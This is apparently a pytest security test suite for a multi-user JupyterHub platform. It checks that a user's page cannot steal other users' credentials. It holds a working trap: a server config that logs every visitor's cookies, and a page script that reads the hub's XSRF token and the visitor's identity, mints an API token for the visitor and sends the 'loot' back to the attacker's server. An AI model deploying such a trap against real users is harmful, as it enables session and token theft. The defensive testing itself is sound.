"""Mallory serves a page from her own server and sends the link to other users (a member, an
admin) who are logged in to the hub, in a real browser (headless Chromium).

Mallory controls everything her server process does: a ``~/.jupyter/jupyter_server_config.py``
in her home adds a handler that answers without login, records every request's headers in her
home and serves her page. The page's script tries what a script in the hub's origin can: read
the visitor's identity (``GET /hub/api/user``), read the hub's XSRF token from a hub page and
mint an API token for the visitor (``POST /hub/api/users/<visitor>/tokens``), then sends what it
got back to her server. What must hold: with per-user hosts (``<user>.hub.localhost``) the page
runs in an origin of its own and gets nothing of the visitor, and no cookie that is a
credential (the hub's login cookie, the identity provider's session) reaches her server, not
even on a plain link visit with JavaScript off.

On the old code (users on the hub's host, the hub on the identity provider's 127.0.0.1) the
script got the visitor's identity and a new token, and ``_session`` arrived at her server.
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from urllib.parse import parse_qs, quote, urlparse

import pytest
import requests

from cscale_extensions.kernelclient import run_in_kernel

rel = pytest.mark.reliability
pytestmark = [
    pytest.mark.slow,
    pytest.mark.browser,
    pytest.mark.skipif(os.getuid() != 0, reason="per-user accounts need the platform to run as root"),
]
MALLORY, MEMBER, ADMIN = "orig-mallory", "orig-victim", "orig-admin"
LOOT_NOTE = "minted-by-mallorys-page"
#: cookies that authenticate someone: none may ever reach a user's server
CREDENTIAL_COOKIES = ("jupyterhub-hub-login", "_session", "_session.sig", "_interaction",
                      "_interaction.sig", "_interaction_resume", "_interaction_resume.sig")
#: JupyterHub shares its session id with all of the hub's domain on purpose (an identifier that
#: ties the OAuth tokens of one browser session together for logout, not a credential)
SHARED_BY_DESIGN = ("jupyterhub-session-id",)

TRAP_CONFIG = r'''
import json, os
import tornado.web
from jupyter_server.serverapp import ServerApp

LOG = os.path.expanduser("~/trap-log.jsonl")
PAGE = os.path.expanduser("~/trap.html")


class Trap(tornado.web.RequestHandler):
    def get(self):
        with open(LOG, "a") as f:
            f.write(json.dumps({"host": self.request.host, "uri": self.request.uri,
                                "cookie": self.request.headers.get("Cookie", "")}) + "\n")
        self.set_header("Content-Type", "text/html; charset=utf-8")
        with open(PAGE) as f:
            self.write(f.read())


_init_webapp = ServerApp.init_webapp


def init_webapp(self):
    _init_webapp(self)
    self.web_app.add_handlers(".*$", [(self.base_url + "trap.html", Trap)])


ServerApp.init_webapp = init_webapp
'''

TRAP_PAGE = r'''<!doctype html>
<html><head><title>loading</title></head><body><p>Nice cat pictures.</p>
<script>
const hub = "__HUB__";
const victim = new URLSearchParams(location.search).get("for");
async function attempt(fn) { try { return await fn(); } catch (e) { return "blocked: " + e; } }
(async () => {
  const loot = {origin: location.origin, cookies: document.cookie};
  loot.xsrf = await attempt(async () => {
    const html = await (await fetch(hub + "hub/token", {credentials: "include"})).text();
    const m = html.match(/xsrf_token:\s*"([^"]+)"/);
    return m ? m[1] : "";
  });
  loot.user = await attempt(async () => {
    const r = await fetch(hub + "hub/api/user", {
      credentials: "include", headers: {"X-XSRFToken": loot.xsrf || ""}});
    return [r.status, await r.text()];
  });
  loot.token = await attempt(async () => {
    const r = await fetch(hub + "hub/api/users/" + victim + "/tokens", {
      method: "POST", credentials: "include",
      headers: {"Content-Type": "application/json", "X-XSRFToken": loot.xsrf || ""},
      body: JSON.stringify({note: "__NOTE__", expires_in: 600})});
    return [r.status, await r.text()];
  });
  await attempt(() => fetch("trap.html?loot=" + encodeURIComponent(JSON.stringify(loot))));
  document.title = "done";
})();
</script></body></html>
'''


@pytest.fixture(scope="module")
def mallory(sec) -> str:
    """Mallory's server with her trap installed (planted from her kernel, then restarted);
    returns the URL of her server."""
    for name in (MALLORY, MEMBER):
        sec.member(name)
    sec.member(ADMIN, role="admin")
    token = sec.token(MALLORY)
    server = sec.start_server(token, MALLORY)
    page = TRAP_PAGE.replace("__HUB__", sec.url).replace("__NOTE__", LOOT_NOTE)
    run_in_kernel(server, token, "\n".join([
        "import os",
        "os.makedirs(os.path.expanduser('~/.jupyter'), exist_ok=True)",
        f"open(os.path.expanduser('~/.jupyter/jupyter_server_config.py'), 'w').write({TRAP_CONFIG!r})",
        f"open(os.path.expanduser('~/trap.html'), 'w').write({page!r})",
    ]))
    api = sec.api(token)
    api.delete(sec.url + f"hub/api/users/{MALLORY}/server", timeout=30)
    deadline = time.monotonic() + 120
    while api.get(sec.url + f"hub/api/users/{MALLORY}", timeout=30).json()["servers"]:
        assert time.monotonic() < deadline, "mallory's server did not stop"
        time.sleep(0.5)
    server = sec.start_server(token, MALLORY)
    r = requests.get(server + "trap.html", timeout=30)
    assert r.status_code == 200 and "cat pictures" in r.text, "the trap is not served"
    return server


def _browser_login(sec, context, name: str):
    """``name`` signs in to the hub in ``context`` (provider form), landing on /hub/home."""
    page = context.new_page()
    page.goto(sec.url + "hub/oauth_login?next=" + quote("/hub/home"))
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", sec.passwords[name])
    page.click("button[type=submit]:has-text('Sign in')")
    page.wait_for_url("**/hub/home**", timeout=60_000)
    return page


def _trap_log(sec) -> list[dict]:
    path = Path(sec.stack.state_dir) / "homes" / MALLORY / "trap-log.jsonl"
    if not path.exists():
        return []
    return [json.loads(line) for line in path.read_text().splitlines() if line.strip()]


def _cookie_names(header: str) -> set[str]:
    return {part.split("=", 1)[0].strip() for part in header.split(";") if part.strip()}


def _tokens_of(sec, name: str) -> list[dict]:
    r = sec.api(sec.admin_token()).get(sec.url + f"hub/api/users/{name}/tokens", timeout=30)
    assert r.status_code == 200, r.text
    return r.json()["api_tokens"]


@rel(
    injected="a logged-in {param} opens a page with JavaScript that another user serves from "
    "her server (it asks the hub for the visitor's identity and a new API token)",
    expected="the page runs in the owner's origin: no identity, no XSRF token, no token minted",
)
@pytest.mark.parametrize("visitor", [MEMBER, ADMIN], ids=["member", "admin"])
def test_a_users_page_gets_no_token_or_identity_of_its_visitor(sec, mallory, browser, visitor):
    context = browser.new_context()
    try:
        page = _browser_login(sec, context, visitor)
        seen = len(_trap_log(sec))
        page.goto(f"{mallory}trap.html?for={visitor}")
        page.wait_for_function("document.title === 'done'", timeout=60_000)
    finally:
        context.close()
    visits = _trap_log(sec)[seen:]
    loot = [json.loads(parse_qs(urlparse(v["uri"]).query)["loot"][0])
            for v in visits if "loot=" in v["uri"]]
    assert loot, f"the page's script did not report back: {visits}"
    got = loot[-1]
    minted = [t for t in _tokens_of(sec, visitor) if t.get("note") == LOOT_NOTE]
    assert not minted, f"the page's script had a token minted for its visitor: {got}"
    assert '"token"' not in json.dumps(got["token"]), f"the page got a token: {got}"
    assert visitor not in json.dumps(got["user"]), f"the page read the visitor's identity: {got}"
    assert not (got["xsrf"] and not got["xsrf"].startswith("blocked")), (
        f"the page read the hub's XSRF token: {got}")
    assert got["origin"] == f"{urlparse(mallory).scheme}://{urlparse(mallory).netloc}"
    # the user's page is served from a host of her own, not the hub's
    assert urlparse(mallory).netloc != urlparse(sec.url).netloc


@rel(
    injected="a logged-in member follows a link to another user's server with JavaScript off "
    "(the server records every header it receives)",
    expected="no cookie that authenticates the visitor (hub login, identity provider session) arrives",
)
def test_a_link_visit_hands_no_credential_cookie_to_the_servers_owner(sec, mallory, browser):
    context = browser.new_context(java_script_enabled=False)
    try:
        page = _browser_login(sec, context, MEMBER)
        names = {c["name"] for c in context.cookies()}
        assert "jupyterhub-hub-login" in names and "_session" in names, names  # both logged in
        seen = len(_trap_log(sec))
        page.goto(f"{mallory}trap.html?for={MEMBER}")
    finally:
        context.close()
    visits = _trap_log(sec)[seen:]
    assert visits, "the link visit did not reach mallory's server"
    for visit in visits:
        arrived = _cookie_names(visit["cookie"])
        leaked = arrived & set(CREDENTIAL_COOKIES)
        assert not leaked, f"mallory's server received {sorted(leaked)} of the visitor: {visit}"
        assert arrived <= set(SHARED_BY_DESIGN), f"unexpected cookies reached her server: {arrived}"
        # the one cookie JupyterHub shares with users' hosts identifies, it does not authenticate
        for part in visit["cookie"].split(";"):
            name, _, value = part.strip().partition("=")
            if name in SHARED_BY_DESIGN:
                s = requests.Session()
                s.cookies.set(name, value, domain=urlparse(sec.url).hostname, path="/")
                r = s.get(sec.url + "hub/api/user", timeout=30)
                assert r.status_code == 403, f"{name} alone authenticates: HTTP {r.status_code}"


def test_provider_and_hub_cookies_are_host_only(sec):
    """Every cookie the identity provider and the hub's login set is bound to its own host
    (no ``Domain``), except JupyterHub's session id; the provider's host serves no user."""
    sec.member(MEMBER)
    s = sec.login(MEMBER)
    by_name = {c.name: c for c in s.cookies}
    assert "_session" in by_name and "jupyterhub-hub-login" in by_name, sorted(by_name)
    for c in s.cookies:
        if c.name in SHARED_BY_DESIGN:
            continue
        assert not c.domain_specified, f"{c.name} is set for the domain {c.domain}"
    provider_host = urlparse(sec.stack.cfg["auth"]["issuer"]).hostname
    assert by_name["_session"].domain == provider_host
    assert provider_host != urlparse(sec.url).hostname
    assert not provider_host.endswith("." + urlparse(sec.url).hostname)


@rel(
    injected="a user serves HTML from her own Dask scheduler (its dashboard, behind dask-gateway)",
    expected="dashboards are on her own host (through her server) and the gateway's host, never "
    "on the hub's origin",
)
def test_a_users_dask_dashboard_is_not_on_the_hubs_origin(sec, mallory):
    token = sec.token(MALLORY)
    out = run_in_kernel(mallory, token, "\n".join([
        "import json, os, requests",
        "from urllib.parse import urlsplit",
        "from dask_gateway import Gateway",
        "cluster = Gateway().new_cluster()",
        "try:",
        "    link = cluster.dashboard_link",
        "    gw = os.environ['DASK_GATEWAY__ADDRESS'] + f'/clusters/{cluster.name}/status'",
        "    res = {'link': link}",
        f"    hub = {sec.url!r}.rstrip('/')",
        "    for what, url in (('gateway', gw), ('hub', hub + urlsplit(link).path),",
        "                      ('hub-gateway-path', hub + urlsplit(gw).path)):",
        "        r = requests.get(url, timeout=30, allow_redirects=False)",
        "        res[what] = [r.status_code, bool(r.headers.get('X-JupyterHub-Version'))]",
        "finally:",
        "    cluster.shutdown()",
        "print(json.dumps(res))",
    ]), timeout=300)
    res = json.loads(out.strip().splitlines()[-1])
    hub_host = urlparse(sec.url).hostname
    # the link is on her own origin (her server forwards to the gateway with its own token)
    assert urlparse(res["link"]).hostname == f"{MALLORY}.{hub_host}", res
    assert urlparse(res["link"]).path.startswith(f"/user/{MALLORY}/dask-gateway/clusters/"), res
    # the gateway answers on its own host; the same paths on the hub's host are the hub's
    assert not res["gateway"][1], res
    assert res["hub"][1] and res["hub-gateway-path"][1], f"the hub's host serves a dashboard: {res}"
